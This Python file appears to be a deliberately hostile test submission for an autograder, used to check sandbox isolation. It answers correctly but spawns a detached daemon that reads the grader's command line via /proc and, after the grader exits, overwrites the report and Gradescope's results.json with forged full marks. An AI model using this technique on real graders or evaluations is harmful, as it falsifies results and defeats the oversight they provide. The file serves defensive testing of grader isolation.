#!/usr/bin/env python3
"""Hostile on purpose: answers like correct.py, but first leaves a setsid daemon behind that waits
until the grader has exited and then overwrites the report (the grader's --out file, found in its
command line) and Gradescope's results.json with full marks. Inside the sandbox the daemon dies with
the submission, and the report's folder is not there to write to."""
import json
import os
import sys
import time

from correct import FUNCTIONS, serve


def ancestors():
    """The pids above this process: its parent (the grader, without a sandbox), the parent's parent..."""
    pid, out = os.getppid(), []
    while pid > 1 and len(out) < 20:
        out.append(str(pid))
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


def report_paths():
    out = ["/autograder/results/results.json"]
    pids = ancestors()
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode("utf8", "replace").split("\0")
        except OSError:
            continue
        for i, w in enumerate(words[:-1]):
            if w == "--out":
                path = words[i + 1]
                if not os.path.isabs(path):
                    path = os.path.join(os.readlink(f"/proc/{pid}/cwd"), path)
                out.append(path)
    return out


def daemon(paths):
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    forged = json.dumps({"score": 31, "maxScore": 31, "checks": [], "forged": True})
    for _ in range(120):  # a minute: long after the grader is gone
        time.sleep(0.5)
        for p in paths:
            try:
                with open(p, "w") as f:
                    f.write(forged)
            except OSError:
                pass
    os._exit(0)


try:
    targets = report_paths()
except OSError:
    targets = ["/autograder/results/results.json"]
print("daemon: will rewrite", targets, file=sys.stderr, flush=True)
daemon(targets)
serve(FUNCTIONS)
